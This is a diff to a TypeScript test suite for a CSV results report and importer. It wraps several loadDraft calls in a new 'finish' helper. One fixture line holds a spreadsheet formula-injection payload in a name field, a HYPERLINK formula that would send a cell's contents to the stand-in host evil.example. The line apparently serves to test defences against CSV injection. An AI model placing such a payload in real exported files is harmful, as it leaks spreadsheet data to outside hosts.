@@ -11,6 +11,7 @@ import { buildReport, PERSON_REPORT_COLUMNS, REPORT_COLUMNS } from '../../../mai
 import { createSealer } from '../../../main/secrets/journal-sealer';
 import { PEOPLE_MAPPING, peopleSpec, person } from '../../support/people-spec';
 import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../support/batch-spec';
+import { finish } from '../../../common/steps';
 
 const hostile = { ...phone(2), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
 const plans: RowPlan[] = [
@@ -135,7 +136,7 @@ describe('results report', () => {
 
   it('goes back into the importer as it is: report columns listed as ignored, the technician columns mapped', () => {
     const { csv } = buildReport(spec, results, { includePasswords: true });
-    const loaded = loadDraft({ id: 'again', fileName: 'phones-results.csv', bytes: new TextEncoder().encode(csv) });
+    const loaded = finish(loadDraft({ id: 'again', fileName: 'phones-results.csv', bytes: new TextEncoder().encode(csv) }));
     if (!loaded.ok) throw new Error(loaded.error.message);
     const draft = loaded.value;
     expect(draft.headers.slice(4)).toEqual(spec.headers);
@@ -190,7 +191,7 @@ describe('results report of people', () => {
     );
     expect(lines[0]![3]).toBe('');
 
-    const loaded = loadDraft({ id: 'again', fileName: 'people-results.csv', bytes: new TextEncoder().encode(csv) });
+    const loaded = finish(loadDraft({ id: 'again', fileName: 'people-results.csv', bytes: new TextEncoder().encode(csv) }));
     if (!loaded.ok) throw new Error(loaded.error.message);
     expect(loaded.value.mapping).toEqual([...Array<null>(11).fill(null), ...PEOPLE_MAPPING]);
   });
@@ -206,11 +207,13 @@ describe('results report of people', () => {
       ['', ''],
       [people[0]!.password, people[0]!.pin],
     ]);
-    const loaded = loadDraft({
-      id: 'again',
-      fileName: 'people-results.csv',
-      bytes: new TextEncoder().encode(buildReport(spec, results, { includePasswords: true }).csv),
-    });
+    const loaded = finish(
+      loadDraft({
+        id: 'again',
+        fileName: 'people-results.csv',
+        bytes: new TextEncoder().encode(buildReport(spec, results, { includePasswords: true }).csv),
+      }),
+    );
     if (!loaded.ok) throw new Error(loaded.error.message);
     expect(loaded.value.mapping.slice(-2)).toEqual(['user_password', 'vm_pin']);
   });
